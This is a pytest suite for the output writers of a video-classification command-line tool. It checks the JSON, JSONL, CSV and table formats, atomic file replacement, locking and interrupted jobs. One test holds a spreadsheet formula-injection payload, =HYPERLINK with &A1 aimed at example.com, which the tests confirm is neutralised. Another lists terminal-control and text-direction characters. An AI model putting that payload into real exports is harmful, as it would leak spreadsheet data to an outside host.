"""Writers: each format says the same, files appear whole or not at all, and nothing done is lost."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import signal
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

from zsar_cli.errors import InputError, OutputError, UsageError
from zsar_cli.report import (
    FORMATS,
    SCHEMA,
    Failure,
    OutputClosed,
    Prediction,
    Run,
    Segment,
    Summary,
    VideoRecord,
    check_target,
    format_for,
    open_writer,
)
from zsar_cli.report.csv_format import COLUMNS
from zsar_cli.video.types import Partial, Sampling, VideoFacts, VideoInfo

TEXTS = tuple(format for format in FORMATS if format not in ("parquet", "xlsx"))  # the others are in test_sheets.py
DOCS = Path(__file__).parent.parent / "docs" / "formats.md"
linux_only = pytest.mark.skipif(sys.platform != "linux", reason="needs Linux's devices and limits")

RUN = Run(
    model="builtin",
    fingerprint="sha256:0123456789abcdef",
    labels_digest="sha256:fedcba9876543210",
    labels_count=3,
    settings={"tau": 0.05, "blend": 0.5},
    bank=None,
    device="cpu",
    precision="float32",
    versions={"torch": "2.13.0", "numpy": "2.4.6"},
    notes=("labels.txt: 1 repeated label(s) merged",),
    zsar="0.1.0",
)
DONE = VideoRecord(
    "clips/a b.mp4",
    (
        Prediction("riding a bike", 0.1 + 0.2, 1.5),
        Prediction('say "hi", x', 0.25, -2.0),
        Prediction("太极拳", -1e-9, 0.0),
    ),
    facts=VideoFacts(
        "clips/a b.mp4", VideoInfo(320, 240, 7.20720720720, 29.97002997, "h264", "mov,mp4", 90),
        Sampling(frames=2), "pyav", "18.1.0 (FFmpeg 8.0)", (0.0, 3.60360360), notes=("first", "second"),
        content="sampled:0123.mp4",
    ),
    windows=1,
)  # fmt: skip
PARTIAL = VideoRecord(
    "cut.avi",
    (Prediction("archery", 0.5, 0.125),),
    facts=VideoFacts(
        "cut.avi", VideoInfo(320, 240, None, None, "mpeg4", "avi"),
        Sampling(windows=2, frames=1, frame_step=0.5, exact=False), "pyav", "18.1.0", (0.0, 1.5),
        Partial(0.62, "the file ends early"),
    ),
    windows=2,
)  # fmt: skip
FAILED = VideoRecord.failed(InputError("bad\nname.mp4", "decode", "no frame, none", "pyav"))
NOT_UTF8 = VideoRecord(os.fsdecode(b"caf\xe9.mp4"), (Prediction("archery", 0.5, 0.125),))
RECORDS = (DONE, FAILED, PARTIAL, NOT_UTF8)
TIMED = replace(
    DONE,
    segments=(
        Segment("riding a bike", 0.1 + 0.2, 2.5, 4.123456789, 1.5, 1.25),
        Segment("太极拳", 1.0, 7.2072072, 3.0, 0.5, 5.5),
        Segment("riding a bike", 6.0, 7.0, 2.5, 0.25, 6.5),
    ),
)
NOTHING = replace(PARTIAL, segments=())


def written(format, tmp_path, records=RECORDS, top_k=None):
    """The bytes of a whole file."""
    target = tmp_path / f"result.{format}"
    with open_writer(format, target, overwrite=True, run=RUN, top_k=top_k) as writer:
        for record in records:
            writer.write(record)
    assert list(tmp_path.iterdir()) == [target]
    return target.read_bytes()


# A hand-written schema: every key with the types its value may have. A list holds the schema of its items.
NULL = type(None)
RECORD_SCHEMA = {
    "path": str,
    "answer": (NULL, str),
    "unknown": (NULL, float),
    "doubtful": (NULL, bool),
    "reasons": [str],
    "predictions": [{"label": str, "score": float, "similarity": float, "probability": (NULL, float)}],
    "segments": (NULL, [{"label": str, "start": float, "end": float, "score": float, "similarity": float,
                         "peak": float}]),
    "error": (NULL, {"stage": str, "reason": str, "decoder": (NULL, str)}),
    "content": (NULL, str),
    "video": (
        NULL,
        {
            "width": int,
            "height": int,
            "duration": (NULL, float),
            "frame_rate": (NULL, float),
            "codec": str,
            "container": str,
            "rotation": int,
        },
    ),
    "decoder": (NULL, {"name": str, "version": str}),
    "sampling": (
        NULL,
        {
            "windows": (NULL, int),
            "frames": int,
            "window": (NULL, float),
            "stride": (NULL, float),
            "frame_step": (NULL, float),
            "mode": str,
            "times": [float],
        },
    ),
    "windows": (NULL, int),
    "partial": (NULL, {"share": float, "reason": str}),
    "notes": [str],
}
RUN_SCHEMA = {
    "zsar": str,
    "model": {"name": str, "fingerprint": str},
    "labels": {"digest": str, "count": int},
    "settings": dict,
    "bank": (NULL, str),
    "device": str,
    "precision": str,
    "versions": dict,
    "notes": [str],
}
DOCUMENT_SCHEMA = {
    "schema": str,
    "run": RUN_SCHEMA,
    "results": [RECORD_SCHEMA],
    "summary": {"total": int, "done": int, "failed": int, "partial": int},
    "complete": bool,
}
LINE_SCHEMA = {"schema": str, **RECORD_SCHEMA, "run": RUN_SCHEMA}


def fits(value, schema):
    """Whether a JSON value has exactly the keys and types of a schema."""
    if isinstance(schema, tuple):
        return any(fits(value, one) for one in schema)
    if isinstance(schema, list):
        return isinstance(value, list) and all(fits(item, schema[0]) for item in value)
    if isinstance(schema, dict):
        return (
            isinstance(value, dict)
            and list(value) == list(schema)
            and all(fits(value[key], schema[key]) for key in schema)
        )
    return type(value) is schema


def keys_of(schema):
    """All keys at any depth."""
    if isinstance(schema, dict):
        return set(schema) | set().union(*(keys_of(value) for value in schema.values()))
    return set().union(*(keys_of(one) for one in schema)) if isinstance(schema, tuple | list) else set()


def test_json_is_one_document_of_the_schema(tmp_path):
    document = json.loads(written("json", tmp_path))
    assert fits(document, DOCUMENT_SCHEMA)
    assert document["schema"] == SCHEMA == "zsar.result/2"
    assert document["summary"] == {"total": 4, "done": 3, "failed": 1, "partial": 1}
    assert document["complete"] is True
    first, failed, partial, odd = document["results"]
    assert first["predictions"] == [
        {"label": "riding a bike", "score": 0.3, "similarity": 1.5, "probability": None},
        {"label": 'say "hi", x', "score": 0.25, "similarity": -2.0, "probability": None},
        {"label": "太极拳", "score": 0.0, "similarity": 0.0, "probability": None},
    ]
    assert str(first["predictions"][2]["score"]) == "0.0"
    assert first["video"]["duration"] == 7.207207 and first["sampling"]["times"] == [0.0, 3.603604]
    assert failed["error"] == {"stage": "decode", "reason": "no frame, none", "decoder": "pyav"}
    assert (failed["predictions"], failed["path"]) == ([], "bad\nname.mp4")
    assert partial["partial"] == {"share": 0.62, "reason": "the file ends early"}
    assert partial["sampling"]["mode"] == "key frames" and first["sampling"]["mode"] == "exact"
    assert os.fsencode(odd["path"]) == b"caf\xe9.mp4"


def test_the_schema_check_can_fail():
    line = {"schema": SCHEMA, **DONE.to_dict(), "run": RUN.to_dict()}
    assert fits(line, LINE_SCHEMA)
    assert not fits({**line, "more": 1}, LINE_SCHEMA)
    assert not fits({**line, "path": None}, LINE_SCHEMA)
    assert not fits({**line, "notes": [1]}, LINE_SCHEMA)


def test_json_lines_are_self_contained(tmp_path):
    document = json.loads(written("json", tmp_path))
    (tmp_path / "result.json").unlink()
    lines = written("jsonl", tmp_path).split(b"\n")
    assert lines.pop() == b"" and len(lines) == 4
    rows = [json.loads(line) for line in lines]
    assert all(fits(row, LINE_SCHEMA) for row in rows)
    assert [{**result, "schema": SCHEMA, "run": document["run"]} for result in document["results"]] == rows


def test_long_csv_has_a_row_per_prediction(tmp_path):
    data = written("csv-long", tmp_path)
    assert b"\r" not in data
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline=""), strict=True))
    assert tuple(rows[0]) == COLUMNS and all(None not in row for row in rows)
    assert [(row["path"], row["rank"], row["label"], row["score"]) for row in rows] == [
        ("clips/a b.mp4", "1", "riding a bike", "0.3"),
        ("clips/a b.mp4", "2", 'say "hi", x', "0.25"),
        ("clips/a b.mp4", "3", "太极拳", "0.0"),
        ("bad\\nname.mp4", "", "", ""),
        ("cut.avi", "1", "archery", "0.5"),
        ("caf\\udce9.mp4", "1", "archery", "0.5"),
    ]
    assert [rows[3][key] for key in ("error_stage", "error_reason", "decoder")] == [
        "decode",
        "no frame, none",
        "pyav",
    ]
    assert [rows[4][key] for key in ("partial_share", "partial_reason", "frame_step", "mode")] == [
        "0.62",
        "the file ends early",
        "0.5",
        "key frames",
    ]
    assert rows[0]["decoder"] == "pyav 18.1.0 (FFmpeg 8.0)" and rows[0]["notes"] == "first; second"
    shared = {(row["model"], row["fingerprint"], row["labels_digest"], row["schema"]) for row in rows}
    assert shared == {("builtin", "sha256:0123456789abcdef", "sha256:fedcba9876543210", SCHEMA)}


def test_segments_come_in_every_format(tmp_path):
    first, second = json.loads(written("json", tmp_path, (TIMED, NOTHING)))["results"]
    assert fits(first, RECORD_SCHEMA) and fits(second, RECORD_SCHEMA) and second["segments"] == []
    assert first["segments"][0] == {"label": "riding a bike", "start": 0.3, "end": 2.5, "score": 4.123457,
                                    "similarity": 1.5, "peak": 1.25}
    assert first["predictions"] == DONE.to_dict()["predictions"]
    (tmp_path / "result.json").unlink()
    rows = list(csv.DictReader(io.StringIO(written("csv-long", tmp_path, (TIMED, NOTHING)).decode())))
    names = ("rank", "label", "score", "similarity", "start", "end", "peak")
    assert [[row[name] for name in names] for row in rows] == [
        ["", "riding a bike", "4.123457", "1.5", "0.3", "2.5", "1.25"],
        ["", "太极拳", "3.0", "0.5", "1.0", "7.207207", "5.5"],
        ["", "riding a bike", "2.5", "0.25", "6.0", "7.0", "6.5"],
        ["", "", "", "", "", "", ""],
    ]
    (tmp_path / "result.csv-long").unlink()
    assert written("table", tmp_path, (TIMED, NOTHING)).decode() == (
        "clips/a b.mp4\n"
        "  0:00.3 - 0:02.5    1.50  riding a bike\n"
        "  0:01.0 - 0:07.2    0.50  太极拳\n"
        "  0:06.0 - 0:07.0    0.25  riding a bike\n"
        "  note: first\n"
        "  note: second\n"
        "\n"
        "cut.avi\n"
        "  none of the labels stands out at any time\n"
        "  only 62% was read: the file ends early\n"
    )


def test_long_times_have_hours(tmp_path):
    record = replace(TIMED, segments=(Segment("a", 59.96, 3725.04, 1.0, 1.0, 70.0),))
    assert "     1:00.0 - 1:02:05.0    1.00  a\n" in written("table", tmp_path, [record]).decode()


def csv_cell(tmp_path, text):
    data = written("csv-long", tmp_path, [VideoRecord(text, facts=replace(DONE.facts, notes=(text,)))])
    (row,) = csv.DictReader(io.StringIO(data.decode(), newline=""), strict=True)
    assert row["path"] == row["notes"]
    return row["path"]


@pytest.mark.parametrize("text", ['"', ",", " a ", "'", "\\", "a;b", "a=b", "1-2", " =1", "太极拳"])
def test_csv_cells_come_back(tmp_path, text):
    assert csv_cell(tmp_path, text) == text


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_csv_cells_are_no_formulas(tmp_path, first):
    text = f'{first}HYPERLINK("https://example.com?"&A1)'
    assert csv_cell(tmp_path, text) == "'" + text
    record = VideoRecord("a.mp4", (Prediction(text, -0.25, 0.0),))
    (row,) = csv.DictReader(io.StringIO(written("csv-long", tmp_path, [record]).decode()))
    assert (row["label"], row["score"]) == ("'" + text, "-0.25"), "a negative number is no formula"


@pytest.mark.parametrize(
    ("value", "text"),
    [
        (1e-6, "0.000001"),
        (-2.5e-5, "-0.000025"),
        (0.0, "0.0"),
        (1e22, "1" + "0" * 22),
    ],
)
def test_csv_numbers_have_no_exponent(tmp_path, value, text):
    facts = replace(DONE.facts, sampling=Sampling(frames=1, frame_step=value))
    (row,) = csv.DictReader(io.StringIO(written("csv-long", tmp_path, [VideoRecord("a", facts=facts)]).decode()))
    assert row["frame_step"] == text and float(row["frame_step"]) == value


# What can change how other text is shown: controls of both ranges, marks that turn its direction, line separators.
ACTIVE = "\0\t\n\r\x1b\x7f\x85\x9b\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


@pytest.mark.parametrize("character", ACTIVE, ids=ascii)
def test_no_format_shows_a_character_that_acts(tmp_path, character):
    name = f"a{character}b"
    label = "x" if character < "\xa0" else name  # a label holds none of the controls
    record = VideoRecord(
        name,
        (Prediction(label, 0.5, 0.0),),
        facts=replace(DONE.facts, partial=Partial(0.5, name), notes=(name,), info=VideoInfo(1, 1, 1, 1, name, "x")),
    )
    failed = VideoRecord.failed(InputError(name, "open", name))
    for format in TEXTS:
        data = written(format, tmp_path, [record, failed]).decode()
        if (format, character) != ("tsv", "\t"):
            assert f"a{character}b" not in data and (character == "\n" or character not in data)
        (tmp_path / f"result.{format}").unlink()
    document = json.loads(written("json", tmp_path, [record, failed]))
    assert [result["path"] for result in document["results"]] == [name, name], "JSON has the exact text"
    assert document["results"][0]["predictions"][0]["label"] == label


def test_text_of_any_language_is_shown_as_it_is(tmp_path):
    for text in ("می\u200cخواهم", "क्\u200dष", "👩\u200d🚒 🚴", "全角\u3000空白", "a\xa0b", "é ß ñ"):  # noqa: RUF001
        record = VideoRecord(text, (Prediction(text, 0.5, 0.0),))
        for format in TEXTS:
            assert text in written(format, tmp_path, [record]).decode()
            (tmp_path / f"result.{format}").unlink()


def test_table_off_a_terminal_is_plain_and_whole(tmp_path):
    long = VideoRecord("folder/" * 60 + "x.mp4", (Prediction("walking", 0.5, 0.0),))
    assert written("table", tmp_path, (*RECORDS, long, VideoRecord("none.mp4"))).decode() == (
        "clips/a b.mp4\n"
        "    1  riding a bike    0.300\n"
        '    2  say "hi", x      0.250\n'
        "    3  太极拳           0.000\n"
        "  note: first\n"
        "  note: second\n"
        "\n"
        "bad\\nname.mp4\n"
        "  decode failed (pyav): no frame, none\n"
        "\n"
        "cut.avi\n"
        "    1  archery    0.500\n"
        "  only 62% was read: the file ends early\n"
        "\n"
        "caf\\udce9.mp4\n"
        "    1  archery    0.500\n"
        "\n" + "folder/" * 60 + "x.mp4\n"
        "    1  walking    0.500\n"
        "\n"
        "none.mp4\n"
        "  no label was given\n"
    )


def many_segments(count):
    """Segments of three labels, one a second; the later the less similar and the higher in score, but for the last."""
    similar = [*(float(100 - number) for number in range(count - 1)), 999.0]
    return tuple(
        Segment("abc"[number % 3], number, number + 1.0, 1000 - value, value, number)
        for number, value in enumerate(similar)
    )


def test_a_table_shows_the_best_segments_in_the_order_of_time(tmp_path):
    for count, more in ((20, []), (22, ["  ... and 2 more; -o FILE.csv has all"])):
        record = replace(TIMED, segments=many_segments(count))
        lines = written("table", tmp_path, [record]).decode().splitlines()
        seconds = [number for number in range(count) if number not in (19, 20)] if more else range(count)
        assert [line.split()[0] for line in lines[1:21]] == [f"0:{number:02}.0" for number in seconds]
        assert lines[21:] == [*more, "  note: first", "  note: second"]
        (tmp_path / "result.table").unlink()
        rows = list(csv.DictReader(io.StringIO(written("csv", tmp_path, [record]).decode())))
        assert len(rows) == count
        (tmp_path / "result.csv").unlink()


def test_strips_are_of_the_segments_that_a_table_shows(monkeypatch):
    low = Segment("low", 30.0, 31.0, 1.0, 0.5, 30.5)
    text = on_terminal(monkeypatch, records=[replace(TIMED, segments=(*many_segments(20), low))], NO_COLOR="1")
    assert sum("█" in line for line in text.splitlines()) == 3 and "low" not in text
    assert "... and 1 more; -o FILE.csv has all" in text


def test_a_table_of_one_label_shows_what_compares_videos(tmp_path):
    record = VideoRecord("a.mp4", (Prediction("archery", 1.0, 0.125),))
    with open_writer("table", tmp_path / "a.txt", overwrite=False, run=replace(RUN, labels_count=1)) as writer:
        writer.write(record)
    assert (tmp_path / "a.txt").read_text() == "a.mp4\n  archery  similarity 0.125\n"


class Terminal(io.BytesIO):
    """A byte stream that says it is a terminal."""

    def isatty(self):
        return True


def on_terminal(monkeypatch, encoding="utf-8", records=(), **environment):
    for name in ("NO_COLOR", "FORCE_COLOR", "COLORTERM", "TTY_COMPATIBLE"):
        monkeypatch.delenv(name, raising=False)
    for name, value in {"TERM": "xterm-256color", **environment}.items():
        monkeypatch.setenv(name, value)
    stream = Terminal()
    monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(stream, encoding=encoding))
    with open_writer("table", None, overwrite=False, run=RUN) as writer:
        for record in records or (DONE, FAILED):
            writer.write(record)
    return stream.getvalue().decode(encoding)


def test_table_on_a_terminal_has_bars_and_colours(monkeypatch):
    text = on_terminal(monkeypatch)
    assert "\x1b[31m  decode failed (pyav): no frame, none\x1b[0m" in text
    bars = [len(bar) for bar in re.findall("█+", text)]
    assert bars == [20, round(20 * 0.25 / 0.3)]


def test_table_on_a_terminal_has_a_strip_for_each_label(monkeypatch):
    text = on_terminal(monkeypatch, records=[TIMED], NO_COLOR="1")
    strips = [line[-60:] for line in text.splitlines() if "█" in line]
    assert len(strips) == 2 and all(len(strip) == 60 for strip in strips)
    second = 60 / 7.2072072
    for strip, spans in zip(strips, [[(0.3, 2.5), (6.0, 7.0)], [(1.0, 7.2072072)]], strict=True):
        for place, mark in enumerate(strip):
            middle = (place + 0.5) / second
            near = min(abs(middle - border) for span in spans for border in span) < 1 / second
            assert near or (mark == "█") == any(start <= middle < end for start, end in spans)


def test_table_honours_no_color(monkeypatch):
    assert "\x1b[31m" not in on_terminal(monkeypatch, NO_COLOR="1")
    assert "\x1b" not in on_terminal(monkeypatch, TERM="dumb")


def test_table_in_another_encoding_escapes(monkeypatch):
    text = on_terminal(monkeypatch, encoding="ascii", TERM="dumb")
    assert "\\u592a" in text and "#" * 20 in text


@pytest.mark.parametrize("format", TEXTS)
def test_the_same_records_give_the_same_bytes(tmp_path, format):
    assert written(format, tmp_path) == written(format, tmp_path)


@pytest.mark.parametrize("format", TEXTS)
def test_every_format_names_every_video(tmp_path, format):
    text = written(format, tmp_path).decode()
    for name in ("clips/a b.mp4", "cut.avi", "riding a bike", "no frame, none", "the file ends early"):
        assert name in text
    assert ("太极拳" in text) == (format not in ("csv", "tsv"))  # a spreadsheet has the best two


@pytest.mark.parametrize("format", TEXTS)
def test_top_k_limits_predictions(tmp_path, format):
    text = written(format, tmp_path, top_k=2).decode()
    assert "riding a bike" in text and "hi" in text and "太极拳" not in text
    with pytest.raises(UsageError, match="top_k 0 is not allowed; give 1 or more"):
        open_writer(format, None, overwrite=False, run=RUN, top_k=0)


def test_no_records_give_a_valid_document(tmp_path):
    document = json.loads(written("json", tmp_path, []))
    assert fits(document, DOCUMENT_SCHEMA) and document["results"] == []


def test_docs_mention_every_key():
    results = DOCS.read_text(encoding="utf-8").partition("## Results")[2]
    documented = set(re.findall(r"`([a-z_]+)`", results))
    keys = keys_of(DOCUMENT_SCHEMA) | keys_of(LINE_SCHEMA) | set(COLUMNS)
    assert len(keys) > 40 and keys - documented == set()
    assert SCHEMA in results


def test_records_refuse_what_cannot_be():
    with pytest.raises(ValueError, match="the score of 'a' is nan"):
        Prediction("a", float("nan"), 0.0)
    with pytest.raises(ValueError, match="the similarity of 'a' is inf"):
        Prediction("a", 0.0, float("inf"))
    with pytest.raises(ValueError, match="best first"):
        VideoRecord("x", (Prediction("a", 0.1, 0.0), Prediction("b", 0.2, 0.0)))
    with pytest.raises(ValueError, match="no predictions"):
        VideoRecord("x", (Prediction("a", 0.1, 0.0),), error=Failure("open", "gone"))
    with pytest.raises(ValueError, match="no segments"):
        VideoRecord("x", segments=(Segment("a", 0, 1, 1, 1, 0),), error=Failure("open", "gone"))
    with pytest.raises(ValueError, match="order of their starts"):
        VideoRecord("x", segments=(Segment("a", 2, 3, 1, 1, 2), Segment("a", 0, 1, 1, 1, 0)))


def test_summary_counts():
    summary = Summary()
    for record in RECORDS:
        summary = summary.plus(record)
    assert summary == Summary(done=3, failed=1, partial=1) and summary.total == 4


@pytest.mark.parametrize(
    ("target", "format"),
    [(None, "table"), ("a.json", "json"), ("a.JSONL", "jsonl"), ("a.csv", "csv"), ("a.txt", "table")],
)
def test_format_for(target, format):
    assert format_for(target and Path(target)) == format


def test_format_for_refuses_other_suffixes():
    with pytest.raises(UsageError, match=re.escape("a.xml: its suffix names no format; known: .txt (table), ")):
        format_for(Path("a.xml"))
    with pytest.raises(UsageError, match="format 'xml' is not known; allowed: table, json, jsonl, csv"):
        open_writer("xml", None, overwrite=False, run=RUN)


@pytest.mark.parametrize("overwrite", [False, True])
def test_targets_that_are_refused_before_any_work(tmp_path, overwrite):
    def refused(target):
        with pytest.raises(OutputError) as checked:
            check_target(target, overwrite)
        with pytest.raises(OutputError) as opened:
            open_writer("json", target, overwrite=overwrite, run=RUN)
        assert str(checked.value) == str(opened.value)
        return str(opened.value)

    file = tmp_path / "results.json"
    file.write_text("old")
    assert refused(tmp_path) == f"{tmp_path} is a folder; name a file in it"
    missing = tmp_path / "no" / "r.json"
    assert refused(missing) == f"{missing}: there is no folder {missing.parent}; create it first"
    assert refused(file / "r.json").startswith(f"{file / 'r.json'}: there is no folder {file}")
    assert "cannot be written: File name too long" in refused(tmp_path / ("x" * 300))
    if not overwrite:
        assert refused(file) == f"{file} exists; --overwrite replaces it"
        file.rename(tmp_path / "results.json.part")
        assert refused(file).startswith(f"{file}.part exists, left by a job that was killed; keep it")
    assert [path.read_text() for path in tmp_path.iterdir()] == ["old"]


@pytest.mark.skipif(os.name != "posix", reason="elsewhere an open file cannot be removed")
@pytest.mark.parametrize("overwrite", [False, True])
def test_a_second_job_on_one_output_is_refused_and_the_first_loses_nothing(tmp_path, overwrite):
    target = tmp_path / "r.jsonl"
    with open_writer("jsonl", target, overwrite=False, run=RUN) as writer:
        writer.write(DONE)
        busy = f"{target}.part is being written by another job; wait until it has ended, or name another file"
        for second in (check_target, lambda *_: open_writer("jsonl", target, overwrite=overwrite, run=RUN)):
            with pytest.raises(OutputError, match=f"^{re.escape(busy)}$"):
                second(target, overwrite)
        command = [sys.executable, "-c", SCRIPT.replace("overwrite=False", f"overwrite={overwrite}"), "jsonl", target]
        other = subprocess.run(command, capture_output=True, text=True, timeout=60)
        assert other.returncode == 1 and other.stderr.endswith(f"OutputError: {busy}\n")
        writer.write(PARTIAL)
    assert [json.loads(line)["path"] for line in target.read_text().splitlines()] == [DONE.path, PARTIAL.path]
    assert list(tmp_path.iterdir()) == [target]


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX signals")
def test_the_lock_goes_with_a_killed_job(tmp_path):
    target = tmp_path / "r.jsonl"
    with subprocess.Popen([sys.executable, "-c", SCRIPT, "jsonl", target], stderr=subprocess.PIPE, text=True) as job:
        assert job.stderr.readline() == "ten\n"
        with pytest.raises(OutputError, match="is being written by another job"):
            check_target(target, True)
        job.kill()
    with pytest.raises(OutputError, match="left by a job that was killed"):
        check_target(target, False)
    with open_writer("jsonl", target, overwrite=True, run=RUN) as writer:
        writer.write(DONE)
    assert len(target.read_text().splitlines()) == 1 and list(tmp_path.iterdir()) == [target]


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX links")
def test_a_part_file_that_is_a_link_is_not_followed(tmp_path):
    (tmp_path / "precious").write_text("keep me")
    (tmp_path / "r.json.part").symlink_to("precious")
    with pytest.raises(OutputError, match=r"r\.json: cannot be written: "):
        open_writer("json", tmp_path / "r.json", overwrite=True, run=RUN)
    assert (tmp_path / "precious").read_text() == "keep me"


@linux_only
def test_a_file_system_without_locks_is_named(tmp_path, monkeypatch):
    import errno
    import fcntl

    def flock(*_):
        raise OSError(errno.ENOLCK, os.strerror(errno.ENOLCK))

    monkeypatch.setattr(fcntl, "flock", flock)
    message = "r.json: cannot be written: this file system cannot lock files (No locks available)"
    with pytest.raises(OutputError, match=re.escape(message)):
        open_writer("json", tmp_path / "r.json", overwrite=False, run=RUN)


@linux_only
def test_an_unwritable_folder_is_named():
    with pytest.raises(OutputError, match=r"^/proc/results.json: cannot be written: "):
        open_writer("json", Path("/proc/results.json"), overwrite=False, run=RUN)


def test_overwrite_replaces_at_the_end_and_through_links(tmp_path):
    file, link = tmp_path / "results.json", tmp_path / "link.json"
    file.write_text("old")
    (tmp_path / "results.json.part").write_text("older")
    link.symlink_to(file)
    with open_writer("json", link, overwrite=True, run=RUN) as writer:
        writer.write(DONE)
        assert file.read_text() == "old"
    assert link.is_symlink() and json.loads(file.read_text())["complete"]
    assert sorted(path.name for path in tmp_path.iterdir()) == ["link.json", "results.json"]


def test_json_lines_are_on_disk_as_they_come(tmp_path):
    part = tmp_path / "r.jsonl.part"
    with open_writer("jsonl", tmp_path / "r.jsonl", overwrite=False, run=RUN) as writer:
        for count, record in enumerate(RECORDS, start=1):
            writer.write(record)
            assert len(part.read_bytes().splitlines()) == count == writer.summary.total


@pytest.mark.parametrize("error", [KeyboardInterrupt, RuntimeError, OutputClosed])
@pytest.mark.parametrize("format", TEXTS)
def test_an_interrupted_job_keeps_what_is_done(tmp_path, format, error):
    target = tmp_path / "r.out"
    with pytest.raises(error), open_writer(format, target, overwrite=False, run=RUN) as writer:
        writer.write(DONE)
        writer.write(FAILED)
        raise error
    data = target.read_text(encoding="utf-8")
    assert list(tmp_path.iterdir()) == [target]
    if format == "json":
        document = json.loads(data)
        assert fits(document, DOCUMENT_SCHEMA)
        assert document["complete"] is False and document["summary"]["total"] == len(document["results"]) == 2
    elif format == "jsonl":
        assert [json.loads(line)["path"] for line in data.splitlines()] == [DONE.path, FAILED.path]
    elif format == "csv-long":
        assert len(list(csv.DictReader(io.StringIO(data, newline="")))) == 4
    elif format in ("csv", "tsv"):
        assert [line.split(",")[0].split("\t")[0] for line in data.splitlines()][1:] == [DONE.path, "bad\\nname.mp4"]
    else:
        assert data.endswith("no frame, none\n")
    with pytest.raises(ValueError, match="closed"):
        writer.write(DONE)


def test_a_record_cut_in_half_is_dropped(tmp_path, monkeypatch):
    """A ctrl-C that arrives while the bytes of a record are going out."""
    target = tmp_path / "r.json"
    with pytest.raises(KeyboardInterrupt), open_writer("json", target, overwrite=False, run=RUN) as writer:
        writer.write(DONE)
        append = writer.output.append

        def half(data):
            append(data[: len(data) // 2])
            monkeypatch.undo()
            raise KeyboardInterrupt

        monkeypatch.setattr(writer.output, "append", half)
        writer.write(FAILED)
    document = json.loads(target.read_text())
    assert [result["path"] for result in document["results"]] == [DONE.path]
    assert document["summary"]["total"] == 1 and document["complete"] is False


@pytest.mark.parametrize("format", TEXTS)
def test_a_job_that_fails_before_any_record_changes_nothing(tmp_path, format, capsysbinary):
    target = tmp_path / "r.out"
    target.write_text("old")
    for place in (target, None):
        with pytest.raises(RuntimeError), open_writer(format, place, overwrite=True, run=RUN):
            raise RuntimeError
    assert target.read_text() == "old" and list(tmp_path.iterdir()) == [target]
    assert capsysbinary.readouterr().out == b""


@pytest.mark.parametrize("format", TEXTS)
def test_standard_output_gets_the_same_bytes(tmp_path, format, capsysbinary):
    print("before")
    with open_writer(format, None, overwrite=False, run=RUN) as writer:
        for record in RECORDS:
            writer.write(record)
    print("after")
    assert capsysbinary.readouterr().out == b"before\n" + written(format, tmp_path) + b"after\n"


def test_standard_output_may_take_text_alone(tmp_path, monkeypatch):
    stream = io.StringIO()
    monkeypatch.setattr(sys, "stdout", stream)
    with open_writer("jsonl", None, overwrite=False, run=RUN) as writer:
        writer.write(DONE)
    assert stream.getvalue().encode() == written("jsonl", tmp_path, [DONE])


@linux_only
@pytest.mark.parametrize("format", TEXTS)
def test_a_full_device_is_named(format):
    message = re.escape("/dev/full: cannot be written: No space left on device; no record was written")
    with (
        pytest.raises(OutputError, match=message) as caught,
        open_writer(format, Path("/dev/full"), overwrite=False, run=RUN) as writer,
    ):
        writer.write(DONE)
    assert not isinstance(caught.value, OutputClosed)


@linux_only
@pytest.mark.parametrize("format", TEXTS)
def test_a_full_disk_keeps_what_fitted(tmp_path, format):
    """The limit on the size of a file stands in for the end of a disk: it, too, cuts a write in the middle."""
    import resource

    target = tmp_path / "r.out"
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    handler = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    try:
        with (
            pytest.raises(OutputError) as caught,
            open_writer(format, target, overwrite=False, run=RUN) as writer,
        ):
            resource.setrlimit(resource.RLIMIT_FSIZE, (6000, before[1]))
            for _ in range(1000):
                writer.write(DONE)
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)
        signal.signal(signal.SIGXFSZ, handler)
    count = writer.summary.total
    assert 3 < count < 1000
    (place,) = tmp_path.iterdir()
    assert str(caught.value) == f"{target}: cannot be written: File too large; {count} record(s) are in {place}"
    data = place.read_text(encoding="utf-8")
    assert data.count(DONE.path) == (3 * count if format == "csv-long" else count)
    if format == "json" and place == target:
        assert json.loads(data)["summary"]["total"] == count
    if format != "json":
        assert place == target and data.endswith("\n")


SCRIPT = """
import signal, sys
from pathlib import Path
from zsar_cli.report import OutputClosed, Prediction, Run, VideoRecord, open_writer
signal.signal(signal.SIGINT, signal.default_int_handler)  # a job in the background ignores it
run = Run("m", "f", "d", 1, {}, None, "cpu", "float32", {})
target = Path(sys.argv[2]) if len(sys.argv) > 2 else None
def write():  # see `run_job` for why the loop is a function of its own
    for number in range(100_000):
        writer.write(VideoRecord(f"{number}.mp4", (Prediction("archery", 0.5, 0.125),)))
        if number == 10:
            print("ten", file=sys.stderr, flush=True)
try:
    with open_writer(sys.argv[1], target, overwrite=False, run=run) as writer:
        write()
except OutputClosed as error:
    sys.exit(f"closed: {error}")
except KeyboardInterrupt:
    sys.exit(f"interrupted: {writer.summary.total}")
"""

# As users run it: a variable that takes Python's own buffers away would hide what is left in them.
ENVIRONMENT = {name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"}


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX pipes")
@pytest.mark.parametrize("format", TEXTS)
def test_a_reader_that_leaves_ends_the_job_quietly(format):
    command = [sys.executable, "-c", SCRIPT, format]
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
    with subprocess.Popen(command, text=True, env=ENVIRONMENT, **pipes) as process:
        assert process.stdout.readline()
        process.stdout.close()
        errors = process.stderr.read()
    assert errors.replace("ten\n", "") == "closed: standard output: closed by its reader\n"


@pytest.mark.skipif(os.name != "posix", reason="needs POSIX signals")
def test_standard_output_gets_each_record_at_once():
    dies = SCRIPT.replace("print(", "import os; os.kill(os.getpid(), signal.SIGKILL); print(")
    command = [sys.executable, "-c", dies, "jsonl"]
    done = subprocess.run(command, capture_output=True, text=True, env=ENVIRONMENT)
    assert done.returncode == -signal.SIGKILL
